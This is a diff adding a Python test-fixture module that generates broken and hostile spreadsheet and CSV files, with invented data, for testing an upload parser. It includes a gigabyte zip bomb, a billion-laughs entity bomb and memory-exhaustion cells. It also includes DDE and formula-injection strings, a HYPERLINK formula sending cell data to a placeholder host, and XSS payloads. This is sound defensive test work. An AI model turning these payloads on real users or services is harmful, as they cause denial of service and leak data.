@@ -1,0 +1,443 @@
+"""Hostile and broken spreadsheet inputs, each built in memory (no binary blobs in the repo).
+
+Every builder returns ``(filename, bytes)``. All table content is invented. ``CORPUS`` maps a
+short name to each builder, for tests that walk the whole corpus. Builders for big inputs
+(zip bomb, huge string) take the inflated size as a parameter and write their deflate stream
+from one repeated, fully flushed block, so a 1 GB member costs about a second to build.
+"""
+
+from __future__ import annotations
+
+import io
+import re
+import struct
+import zipfile
+import zlib
+from collections.abc import Callable, Sequence
+from typing import Any
+
+HEADER = ["Titel", "Beschreibung", "Quartier", "Träger", "Zielgruppe", "Beginn", "Stunden"]
+ROWS = [  # invented
+    ["Erzählcafé (erfunden)", "Offener Treff für Ältere", "Nordstadt", "Diakonie Musterstadt",
+     "Ältere Menschen", "2024-03-01", 2],
+    ["Stadtteilkonferenz (erfunden)", "Träger planen gemeinsam", "Südviertel", "Kirchengemeinde St. Beispiel",
+     "Fachkräfte", "2024-05-14", 3],
+    ["Sozialberatung (erfunden)", "Einzelberatung zu Anträgen", "Altstadt", "Diakonie Musterstadt",
+     "alle", "2024-09-02", 1.5],
+]
+
+Built = tuple[str, bytes]
+SHEET1 = "xl/worksheets/sheet1.xml"  # where xlsxwriter puts the first sheet
+
+
+# --- plain writers ---------------------------------------------------------------------------
+
+def xlsx(rows: Sequence[Sequence[Any]], sheet: str = "Aktivitäten", *,
+         merge: Sequence[tuple[str, str]] = ()) -> bytes:
+    """An xlsx (xlsxwriter, shared strings) with text written as text, never as a formula."""
+    import xlsxwriter
+
+    buf = io.BytesIO()
+    book = xlsxwriter.Workbook(buf, {"strings_to_formulas": False, "strings_to_urls": False,
+                                     "strings_to_numbers": False})
+    ws = book.add_worksheet(sheet)
+    for r, row in enumerate(rows):
+        for c, value in enumerate(row):
+            if value is not None:
+                ws.write(r, c, value)
+    for ref, text in merge:
+        ws.merge_range(ref, text)
+    book.close()
+    return buf.getvalue()
+
+
+def csv_text(rows: Sequence[Sequence[Any]], sep: str = ";") -> str:
+    return "\r\n".join(sep.join("" if v is None else str(v) for v in row) for row in rows) + "\r\n"
+
+
+def rewrite(data: bytes, member: str, change: Callable[[bytes], bytes]) -> bytes:
+    """A copy of zip ``data`` with one member's bytes replaced by ``change(old)``."""
+    src = zipfile.ZipFile(io.BytesIO(data))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            content = src.read(info.filename)
+            dst.writestr(info.filename, change(content) if info.filename == member else content)
+    return out.getvalue()
+
+
+def _members(data: bytes) -> dict[str, bytes]:
+    src = zipfile.ZipFile(io.BytesIO(data))
+    return {name: src.read(name) for name in src.namelist()}
+
+
+def raw_zip(members: Sequence[tuple[str, bytes, int, int]]) -> bytes:
+    """A zip from ``(name, raw deflate stream, crc32, inflated size)`` entries (no zip64)."""
+    out = io.BytesIO()
+    central = []
+    for name, raw, crc, size in members:
+        encoded = name.encode()
+        offset = out.tell()
+        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(raw), size,
+                              len(encoded), 0) + encoded)
+        out.write(raw)
+        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(raw),
+                                   size, len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
+    start = out.tell()
+    for entry in central:
+        out.write(entry)
+    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start,
+                          start, 0))
+    return out.getvalue()
+
+
+def deflated(content: bytes) -> tuple[bytes, int, int]:
+    """``(raw deflate stream, crc32, size)`` of ``content``."""
+    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
+    return packer.compress(content) + packer.flush(), zlib.crc32(content), len(content)
+
+
+def repeated(prefix: bytes, unit: bytes, count: int, suffix: bytes) -> tuple[bytes, int, int]:
+    """``deflated(prefix + unit * count + suffix)`` without holding the inflated text.
+
+    Each unit is compressed once after a full flush (which resets the dictionary), so every
+    further unit is the same compressed block.
+    """
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    head = packer.compress(prefix) + packer.flush(zlib.Z_FULL_FLUSH)
+    block = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
+    again = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
+    assert block == again
+    tail = packer.compress(suffix) + packer.flush()
+    crc = zlib.crc32(prefix)
+    for _ in range(count):
+        crc = zlib.crc32(unit, crc)
+    crc = zlib.crc32(suffix, crc)
+    return head + block * count + tail, crc, len(prefix) + len(unit) * count + len(suffix)
+
+
+def cfb(streams: dict[str, bytes]) -> bytes:
+    """A minimal OLE2 compound file (version 3, 512-byte sectors) holding ``streams``.
+
+    Streams are padded to 4096 bytes so that none goes to the mini stream; at most three.
+    """
+    assert 1 <= len(streams) <= 3
+    size, end, free, fat_sector = 512, 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
+    bodies = [content.ljust(4096, b"\0") for content in streams.values()]
+    fat = [fat_sector, end]  # sector 0: the FAT, sector 1: the directory
+    starts = []
+    for body in bodies:
+        count = -(-len(body) // size)
+        first = len(fat)
+        starts.append(first)
+        fat.extend([*range(first + 1, first + count), end])
+    assert len(fat) <= size // 4
+
+    def entry(name: str, kind: int, child: int, right: int, start: int, length: int) -> bytes:
+        encoded = name.encode("utf-16-le") + b"\0\0" if name else b""
+        return (encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1)
+                + struct.pack("<III", free, right, child) + bytes(16) + bytes(4) + bytes(16)
+                + struct.pack("<IQ", start, length))
+
+    names = list(streams)
+    directory = entry("Root Entry", 5, 1, free, end, 0)
+    for i, name in enumerate(names):
+        right = i + 2 if i + 1 < len(names) else free
+        directory += entry(name, 2, free, right, starts[i], len(streams[name]))
+    directory = directory.ljust(size, b"\0")
+    for i in range(len(names) + 1, 4):  # unused entries
+        directory = directory[:i * 128] + entry("", 0, free, free, 0, 0) + directory[(i + 1) * 128:]
+    header = (bytes.fromhex("D0CF11E0A1B11AE1") + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
+              + bytes(6) + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
+              + struct.pack("<109I", 0, *([free] * 108)))
+    fat_block = struct.pack(f"<{size // 4}I", *(fat + [free] * (size // 4 - len(fat))))
+    body = b"".join(b.ljust(-(-len(b) // size) * size, b"\0") for b in bodies)
+    return header + fat_block + directory + body
+
+
+# --- the corpus ------------------------------------------------------------------------------
+
+def good_xlsx() -> Built:
+    """A small, valid inventory (for comparisons)."""
+    return "inventar.xlsx", xlsx([HEADER, *ROWS])
+
+
+def empty_file() -> Built:
+    return "inventar.xlsx", b""
+
+
+def pdf_as_xlsx() -> Built:
+    body = (b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
+            b"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
+    return "inventar.xlsx", body
+
+
+def png_as_xlsx() -> Built:
+    def chunk(kind: bytes, payload: bytes) -> bytes:
+        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))
+
+    pixels = zlib.compress(b"\x00\xff\xff\xff")
+    png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
+           + chunk(b"IDAT", pixels) + chunk(b"IEND", b""))
+    return "inventar.xlsx", png
+
+
+def docx_as_xlsx() -> Built:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("[Content_Types].xml",
+                    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
+                    'package/2006/content-types"><Override PartName="/word/document.xml" ContentType="'
+                    'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
+        zf.writestr("word/document.xml", '<?xml version="1.0"?><w:document xmlns:w="urn:x"/>')
+    return "inventar.xlsx", out.getvalue()
+
+
+def text_as_xlsx() -> Built:
+    return "inventar.xlsx", b"Notizen zur Stadtteilkonferenz (erfunden)\nkeine Tabelle\n"
+
+
+def csv_as_xlsx() -> Built:
+    return "inventar.xlsx", csv_text([HEADER, *ROWS]).encode("utf-8")
+
+
+def html_as_xls() -> Built:
+    html = "<html><body><table><tr><td>Titel</td><td>Quartier</td></tr></table></body></html>"
+    return "export.xls", html.encode()
+
+
+def truncated_xlsx() -> Built:
+    data = xlsx([HEADER, *ROWS])
+    return "inventar.xlsx", data[:len(data) // 2]
+
+
+def encrypted_xlsx() -> Built:
+    """What Excel writes for "Mit Kennwort verschlüsseln": an OLE2 file with these two streams."""
+    info = struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0"?><encryption/>'
+    package = struct.pack("<Q", 6000) + bytes(range(256)) * 20
+    return "inventar.xlsx", cfb({"EncryptionInfo": info, "EncryptedPackage": package})
+
+
+def word_doc_as_xls() -> Built:
+    return "inventar.xls", cfb({"WordDocument": b"\xec\xa5" + bytes(100)})
+
+
+def fake_xls() -> Built:
+    """An OLE2 file with a 'Workbook' stream that is not BIFF: recognised as xls, refused by the parser."""
+    return "inventar.xls", cfb({"Workbook": b"\x00\x01" * 100})
+
+
+def entity_bomb_xlsx(levels: int = 9) -> Built:
+    """Billion laughs in the shared strings table (the sheet shows string 0)."""
+    entities = ['<!ENTITY e0 "lachen">'] + [
+        f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, levels + 1)]
+    sst = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE sst [' + "".join(entities)
+           + ']>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
+           f'uniqueCount="1"><si><t>&e{levels};</t></si></sst>').encode()
+    data = xlsx([["Titel"], ["x"]])
+    return "inventar.xlsx", rewrite(data, "xl/sharedStrings.xml", lambda _old: sst)
+
+
+def zip_bomb_xlsx(size: int = 1 << 30) -> Built:
+    """A valid xlsx whose sheet part inflates to ``size`` bytes (blanks between rows): ~1 MB per GB."""
+    data = xlsx([HEADER, *ROWS])
+    members = _members(data)
+    sheet = members[SHEET1]
+    cut = sheet.index(b"</sheetData>")
+    unit = b" " * (1 << 20)
+    entries = []
+    for name, content in members.items():
+        if name == SHEET1:
+            raw, crc, length = repeated(sheet[:cut], unit, max(1, size // len(unit)), sheet[cut:])
+            entries.append((name, raw, crc, length))
+        else:
+            entries.append((name, *deflated(content)))
+    return "inventar.xlsx", raw_zip(entries)
+
+
+def huge_string_xlsx(size: int = 600 << 20) -> Built:
+    """One shared string of ``size`` letters: the parser must hold it whole (memory, not a claim)."""
+    data = xlsx([["Titel"], ["x"]])
+    members = _members(data)
+    entries = []
+    for name, content in members.items():
+        if name == "xl/sharedStrings.xml":
+            head = content[:content.index(b"<si>")] + b"<si><t>"
+            head = re.sub(rb'count="\d+" uniqueCount="\d+"', b'count="2" uniqueCount="2"', head)
+            unit = b"a" * (1 << 20)
+            raw, crc, length = repeated(head, unit, max(1, size // len(unit)),
+                                        b"</t></si><si><t>x</t></si></sst>")
+            entries.append((name, raw, crc, length))
+        else:
+            entries.append((name, *deflated(content)))
+    return "inventar.xlsx", raw_zip(entries)
+
+
+def _add_cell(data: bytes, row: int, ref: str, cell: str = "<v>1</v>") -> bytes:
+    addition = f'<row r="{row}"><c r="{ref}">{cell}</c></row></sheetData>'.encode()
+    return rewrite(data, SHEET1, lambda old: old.replace(b"</sheetData>", addition))
+
+
+def far_cell_xlsx() -> Built:
+    """A sheet with a value claimed at XFD1048576 (calamine tries to allocate 512 GiB)."""
+    return "inventar.xlsx", _add_cell(xlsx([HEADER, *ROWS]), 1048576, "XFD1048576")
+
+
+def far_row_xlsx() -> Built:
+    """A stray value in Excel's last row, column A (a real-world mistake, 1 million empty rows)."""
+    return "inventar.xlsx", _add_cell(xlsx([HEADER, *ROWS]), 1048576, "A1048576")
+
+
+def far_format_only_xlsx() -> Built:
+    """Formatting only at XFD1048576 (no value): harmless, must be accepted."""
+    data = xlsx([HEADER, *ROWS])
+    addition = b'<row r="1048576"><c r="XFD1048576" s="0"/></row></sheetData>'
+    return "inventar.xlsx", rewrite(data, SHEET1, lambda old: old.replace(b"</sheetData>", addition))
+
+
+def huge_shared_strings_xlsx(claim: int = 4_000_000_000) -> Built:
+    """The shared strings table claims ``claim`` entries but holds a handful."""
+    data = xlsx([HEADER, *ROWS])
+    return "inventar.xlsx", rewrite(data, "xl/sharedStrings.xml", lambda old: re.sub(
+        rb'uniqueCount="\d+"', f'uniqueCount="{claim}"'.encode(), old))
+
+
+def error_cells_xlsx() -> Built:
+    """Cached error results as Excel stores them (t="e"), one per error code."""
+    import xlsxwriter
+
+    codes = ["#DIV/0!", "#N/A", "#NAME?", "#NULL!", "#NUM!", "#REF!", "#VALUE!"]
+    buf = io.BytesIO()
+    book = xlsxwriter.Workbook(buf)
+    ws = book.add_worksheet("Aktivitäten")
+    ws.write_row(0, 0, ["Titel", "Quartier", "Stunden"])
+    for r, code in enumerate(codes, start=1):
+        ws.write_string(r, 0, f"Angebot {r} (erfunden)")
+        ws.write_string(r, 1, "Nordstadt")
+        ws.write_formula(r, 2, "=1/0", None, code)
+    book.close()
+    return "fehlerwerte.xlsx", buf.getvalue()
+
+
+def formula_without_value_xlsx() -> Built:
+    """Formulas that were never calculated (openpyxl writes no result): C2, C3."""
+    import openpyxl
+
+    book = openpyxl.Workbook()
+    ws = book.active
+    ws.title = "Aktivitäten"
+    ws.append(["Titel", "Stunden", "Summe"])
+    ws.append(["Angebot A (erfunden)", 2, "=B2*2"])
+    ws.append(["Angebot B (erfunden)", 3, "=B3*2"])
+    buf = io.BytesIO()
+    book.save(buf)
+    return "formeln.xlsx", buf.getvalue()
+
+
+def header_only_xlsx() -> Built:
+    return "inventar.xlsx", xlsx([HEADER])
+
+
+def missing_quartier_xlsx() -> Built:
+    keep = [i for i, h in enumerate(HEADER) if h != "Quartier"]
+    return "inventar.xlsx", xlsx([[row[i] for i in keep] for row in [HEADER, *ROWS]])
+
+
+INJECTIONS = ['=HYPERLINK("http://example.invalid/?x="&A1,"Details")', "+cmd|' /C calc'!A0", "-2+3",
+              "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]
+
+
+def injection_xlsx() -> Built:
+    """Text cells that a spreadsheet would run as formulas if written back unescaped."""
+    rows = [HEADER] + [[text, "Beschreibung (erfunden)", "Nordstadt", text, "alle", "2024-01-10", 1]
+                       for text in INJECTIONS]
+    return "inventar.xlsx", xlsx(rows)
+
+
+def injection_csv() -> Built:
+    rows = [HEADER] + [[f'"{t.replace(chr(34), chr(34) * 2)}"', "x", "Nordstadt", "y", "alle", "2024-01-10", 1]
+                       for t in INJECTIONS]
+    return "inventar.csv", csv_text(rows).encode("utf-8")
+
+
+SCRIPT = '<script>alert("erfunden")</script><img src=x onerror=alert(1)>'
+
+
+def script_xlsx() -> Built:
+    rows = [HEADER, [SCRIPT, SCRIPT, "Nordstadt", "<b>Träger</b>", "alle", "2024-02-01", 1]]
+    return "inventar.xlsx", xlsx(rows)
+
+
+def utf16_csv() -> Built:
+    """Excel's "Unicode-Text": UTF-16 with BOM, tab-separated."""
+    return "inventar.csv", csv_text([HEADER, *ROWS], sep="\t").encode("utf-16")
+
+
+def cp1252_csv() -> Built:
+    return "inventar.csv", csv_text([HEADER, *ROWS]).encode("cp1252")
+
+
+def ragged_csv() -> Built:
+    """Rows with fewer and more fields than the header."""
+    rows = [HEADER, ROWS[0][:3], [*ROWS[1], "überzählig", "noch eins"], ROWS[2]]
+    return "inventar.csv", csv_text(rows).encode("utf-8")
+
+
+def nul_csv() -> Built:
+    """A CSV with two stray NUL bytes in its second data row."""
+    text = csv_text([HEADER, *ROWS]).encode("utf-8")
+    lines = text.split(b"\r\n")
+    lines[2] = lines[2][:5] + b"\x00" + lines[2][5:] + b"\x00"
+    return "inventar.csv", b"\r\n".join(lines)
+
+
+def binary_as_csv() -> Built:
+    """Unknown binary data (many NUL bytes) under a .csv name."""
+    return "inventar.csv", bytes(range(256)) * 64
+
+
+def duplicate_headers_xlsx() -> Built:
+    header = ["Titel", "Quartier", "Stunden", "Stunden", "Quartier"]
+    return "inventar.xlsx", xlsx([header, ["Treff (erfunden)", "Nordstadt", 1, 2, "Südviertel"]])
+
+
+def merged_header_xlsx() -> Built:
+    """A two-row header: a merged group title above the real headers."""
+    rows = [[None] * len(HEADER), HEADER, *ROWS]
+    return "inventar.xlsx", xlsx(rows, merge=[("A1:C1", "Angebot"), ("D1:G1", "Rahmen")])
+
+
+CORPUS: dict[str, Callable[[], Built]] = {
+    "leer": empty_file,
+    "pdf_als_xlsx": pdf_as_xlsx,
+    "png_als_xlsx": png_as_xlsx,
+    "docx_als_xlsx": docx_as_xlsx,
+    "text_als_xlsx": text_as_xlsx,
+    "csv_als_xlsx": csv_as_xlsx,
+    "html_als_xls": html_as_xls,
+    "abgeschnitten": truncated_xlsx,
+    "verschluesselt": encrypted_xlsx,
+    "word_doc_als_xls": word_doc_as_xls,
+    "falsches_xls": fake_xls,
+    "entity_bombe": entity_bomb_xlsx,
+    "zip_bombe": zip_bomb_xlsx,
+    "riesen_text": huge_string_xlsx,
+    "ferne_zelle": far_cell_xlsx,
+    "ferne_zeile": far_row_xlsx,
+    "ferne_formatierung": far_format_only_xlsx,
+    "riesen_sst": huge_shared_strings_xlsx,
+    "fehlerwerte": error_cells_xlsx,
+    "formel_ohne_wert": formula_without_value_xlsx,
+    "nur_kopfzeile": header_only_xlsx,
+    "ohne_quartier": missing_quartier_xlsx,
+    "injektion_xlsx": injection_xlsx,
+    "injektion_csv": injection_csv,
+    "script": script_xlsx,
+    "utf16_csv": utf16_csv,
+    "cp1252_csv": cp1252_csv,
+    "ungleiche_zeilen_csv": ragged_csv,
+    "nul_csv": nul_csv,
+    "binaer_als_csv": binary_as_csv,
+    "doppelte_kopfzeilen": duplicate_headers_xlsx,
+    "verbundene_kopfzellen": merged_header_xlsx,
+}
